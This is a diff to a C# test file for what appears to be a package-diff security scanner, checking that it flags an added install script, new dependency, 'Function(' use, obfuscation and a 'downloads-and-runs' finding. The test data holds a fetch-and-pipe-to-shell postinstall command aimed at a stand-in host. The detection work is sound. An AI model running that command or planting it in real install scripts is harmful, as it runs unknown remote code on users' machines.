@@ -84,14 +84,17 @@ public sealed class DiffCommandTests : IDisposable
         var changes = report["changes"]!;
         changes.AsObject().Select(p => p.Key).ShouldBe(
             ["size", "entries", "newFileKinds", "installScripts", "dependencies", "endpoints", "dangerousApis", "obfuscation"]);
-        changes["installScripts"]![0]!.ToJsonString().ShouldBe("""{"name":"postinstall","change":"added","old":null,"new":"curl -s https://x.example/i.sh | sh"}""");
+        changes["installScripts"]![0]!.ToJsonString().ShouldBe("""{"name":"postinstall","change":"added","old":null,"new":"curl -s https://x.example/i.sh | sh","kind":"npm-script","path":null,"fetches":true}""");
         changes["dependencies"]![0]!.ToJsonString().ShouldBe("""{"name":"plain-crypto-js","change":"added","old":null,"new":"^4.2.1"}""");
         changes["entries"]!["changed"]!.AsArray().Select(e => e!["path"]!.GetValue<string>()).ShouldBe(["index.js", "package.json"]);
         changes["dangerousApis"]![0]!["tokens"]!.AsArray().Select(t => t!.GetValue<string>()).ShouldBe(["Function("]);
         var jump = changes["obfuscation"]![0]!;
         jump["newMinifiedShare"]!.GetValue<double>().ShouldBeGreaterThan(0.5);
         report["findings"]!.AsArray().Select(f => f!["ruleId"]!.GetValue<string>()).ShouldBe(
-            ["diff/new-dangerous-api", "diff/new-install-script", "diff/obfuscation-jump", "diff/new-dependency"], ignoreOrder: true);
+            ["diff/new-dangerous-api", "diff/new-install-script", "diff/obfuscation-jump", "diff/new-dependency", "diff/new-finding"], ignoreOrder: true);
+        var behaviour = report["findings"]!.AsArray().Single(f => f!["ruleId"]!.GetValue<string>() == "diff/new-finding")!;
+        behaviour["properties"]!["ruleId"]!.GetValue<string>().ShouldBe("install/downloads-and-runs");
+        behaviour["properties"]!["excerpt"]!.GetValue<string>().ShouldBe("curl -s https://x.example/i.sh | sh");
     }
 
     [Fact]
@@ -103,7 +106,7 @@ public sealed class DiffCommandTests : IDisposable
         var errors = Sarif.Value.Validate(result.Output);
         errors.ShouldBeEmpty(string.Join("\n", errors));
         var run = JsonNode.Parse(result.Output)!["runs"]![0]!;
-        run["results"]!.AsArray().Count.ShouldBe(4);
+        run["results"]!.AsArray().Count.ShouldBe(5);
         run["tool"]!["driver"]!["rules"]!.AsArray().Select(r => r!["id"]!.GetValue<string>()).ShouldContain("diff/new-install-script");
         run["properties"]!["against"]!["version"]!.GetValue<string>().ShouldBe("1.4.0");
     }
